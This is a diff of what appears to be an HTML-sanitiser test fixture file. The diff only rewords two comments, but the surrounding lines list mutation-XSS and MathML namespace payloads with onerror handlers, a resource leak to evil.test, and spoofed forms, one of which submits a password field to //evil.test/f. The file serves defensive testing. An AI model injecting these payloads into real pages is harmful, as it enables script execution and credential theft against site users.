@@ -47,7 +47,7 @@ export const namespaces = [
   "<math onfocus=PWN tabindex=1 autofocus><mi>x</mi></math>",
 ]
 
-/** Parsed once they look harmless, written out and parsed again they bite: known from sanitisers' histories. */
+/** Mutations: harmless when parsed once, dangerous when written out and parsed again; known from sanitisers' bugs. */
 export const mutations = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=PWN&gt;">',
   "<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWN>",
@@ -243,7 +243,7 @@ export const leaks = [
   "<math><mglyph src=//evil.test/41.png></math>",
 ]
 
-/** Controls that would pass for ours. */
+/** Controls that look like ours. */
 export const formSpoofs = [
   "<form action=//evil.test/f><input name=password type=password><button>Log in</button></form>",
   "<form action=/logout method=post><button>Receive bonus</button></form>",
